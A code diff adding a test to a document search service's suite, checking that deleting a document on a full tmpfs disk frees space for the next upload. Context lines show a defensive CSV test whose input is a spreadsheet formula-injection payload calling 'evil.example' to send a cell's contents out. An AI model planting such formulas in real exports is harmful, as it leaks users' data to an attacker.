@@ -23,6 +23,7 @@ import { openService } from '../../src/server/open-service.js';
 import type { AppDeps } from '../../src/server/app-deps.js';
 import type { SqliteStore } from '../../src/store/index.js';
 import { makePaddedPdf, makeStackedMarksText, makeVietnamesePdf } from '../support/make-fixtures.js';
+import { mountSmallDisk, smallDiskAvailable, unmountAllSmallDisks } from '../support/small-disk.js';
 import { startService, writeSmallCorpus, type RunningService } from '../support/start-service.js';
 
 setFlagsFromString('--expose-gc');
@@ -323,6 +324,7 @@ describe('the sample corpus is ingested only on a data folder\'s first start (is
 });
 
 describe('low findings (issue 15 item 9)', () => {
+  afterAll(() => unmountAllSmallDisks());
   let svc: RunningService;
   let key: string;
   beforeAll(async () => {
@@ -331,6 +333,30 @@ describe('low findings (issue 15 item 9)', () => {
     key = (await res.json()).siteKey.key;
   });
   afterAll(() => svc.close());
+
+  it.skipIf(!smallDiskAvailable())('a document can be deleted on a full disk (a real tmpfs), which makes room for the next upload', async () => {
+    const disk = mountSmallDisk(64 * MiB);
+    let full: RunningService | undefined;
+    try {
+      full = await startService({ DATA_DIR: join(disk.path, 'data') });
+      const lesson = (n: number) => `# Đề cương ${n}\n\n${Array.from({ length: 2500 }, (_, i) => `Tuần ${i}: ôn chủ đề ${i * 7 + n}, nộp báo cáo mã ${(i * 7919 + n) % 100003}.`).join('\n\n')}\n`;
+      expect((await upload(full, [{ name: 'de-cuong-1.md', bytes: lesson(1), type: 'text/markdown' }])).status).toBe(200);
+      (full.deps.engine.store as SqliteStore).db.pragma('wal_checkpoint(TRUNCATE)');
+      disk.usedPlus(32 * 1024);
+      expect((await upload(full, [{ name: 'de-cuong-2.md', bytes: lesson(2), type: 'text/markdown' }])).status).toBe(507);
+
+      const id = idOf(full, 'de-cuong-1.md');
+      const deleted = await full.admin(`/documents/${id}`, { method: 'DELETE' });
+      expect(deleted.status).toBe(200); // 507 before: nothing could be deleted
+      expect(full.deps.engine.store.getDocument(id)).toBeUndefined();
+      expect((await fetch(`${full.baseURL}/api/search?q=${encodeURIComponent('đề cương chủ đề')}`).then((r) => r.json())).results.filter((r: any) => r.documentId === id)).toEqual([]);
+      // The room it made takes the next upload, on the same full disk.
+      expect((await upload(full, [{ name: 'de-cuong-2.md', bytes: lesson(2), type: 'text/markdown' }])).body.results[0].status).toBe('added');
+    } finally {
+      await full?.close();
+      disk.unmount();
+    }
+  }, 60_000);
 
   it('the questions CSV keeps a question with ";" in one cell, and no ";"-separated piece of it reads as a formula', async () => {
     const question = `hoc phi;=HYPERLINK("http://evil.example/?"&A1;"bấm");@SUM(1)`;
